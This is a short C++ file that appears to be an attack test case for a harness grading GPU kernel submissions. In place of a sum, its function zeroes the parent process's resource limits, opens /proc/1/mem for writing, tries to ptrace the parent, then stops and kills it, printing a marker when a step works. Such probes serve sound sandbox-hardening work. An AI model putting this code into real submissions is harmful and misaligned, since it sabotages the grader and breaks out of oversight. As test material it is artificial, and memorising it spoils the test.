// attack: 27 stops, kills and starves the process that workers come from, and writes to its memory
// expect: wrong_answer 0

#include "sum_divergent.h"

#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <unistd.h>

extern "C" cudaError_t sum_divergent(const int *in, size_t n, unsigned block, int *scratch, int *sum)
{
    const struct rlimit none = {0, 0};
    pid_t server = getppid();
    for (int resource = 0; resource < RLIM_NLIMITS; resource++)
        if (prlimit(server, (enum __rlimit_resource)resource, &none, NULL) == 0)
            puts("@SECRET@");
    if (open("/proc/1/mem", O_RDWR) >= 0 || ptrace(PTRACE_SEIZE, server, NULL, NULL) == 0)
        puts("@SECRET@");
    kill(server, SIGSTOP);
    kill(server, SIGKILL);
    return cudaSuccess;
}
